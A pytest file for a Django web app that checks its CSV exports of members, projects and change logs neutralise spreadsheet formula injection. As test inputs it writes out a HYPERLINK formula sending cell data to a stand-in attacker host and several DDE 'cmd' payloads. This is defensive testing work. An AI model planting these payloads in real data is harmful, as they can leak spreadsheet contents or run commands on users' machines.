"""Defect 4: no export carries a spreadsheet formula. Every CSV goes through hub.core.exports."""

from __future__ import annotations

import pytest

from hub.network import services
from hub.network.models import Member
from hub.projects.models import Project
from tests.pages.helpers import csv_rows
from tests.personas import make_user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def cells(response) -> list[str]:
    assert response.status_code == 200
    return [cell for row in csv_rows(response) for cell in row]


def test_members_csv_neutralises_a_formula_in_a_name(client):
    Member.objects.filter(slug="sumedang").update(name=FORMULA, local_name="+1+cmd|' /C calc'!A0")
    exported = cells(client.get("/members.csv"))
    assert "'" + FORMULA in exported and FORMULA not in exported
    assert "'+1+cmd|' /C calc'!A0" in exported


def test_projects_csv_neutralises_a_formula_in_a_title(client):
    Project.objects.filter(slug="homecare-dottorota").update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    exported = cells(client.get("/projects/export.csv", {"member": "makassar"}))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in exported
    assert not any(cell.startswith(("=", "+", "@")) for cell in exported)


def test_change_log_csv_neutralises_a_formula_in_a_changed_value(client):
    officer = make_user("officer@sumedang.example", "gov-sumedang", password=None)
    keeper = make_user("keeper@asean.example", "asean-secretariat-connectivity-division", password=None)
    sumedang = Member.objects.get(slug="sumedang")
    services.update_member(actor=officer, member=sumedang, data={"summary": "-2+3+cmd|' /C calc'!A0"}, via="page")
    client.force_login(keeper)
    exported = cells(client.get("/changes.csv"))
    assert "'-2+3+cmd|' /C calc'!A0" in exported
    assert "-2+3+cmd|' /C calc'!A0" not in exported


def test_numbers_keep_their_sign():
    from hub.core.exports import csv_safe

    assert csv_safe("-3.5") == "-3.5"
    assert csv_safe("=1+1") == "'=1+1"
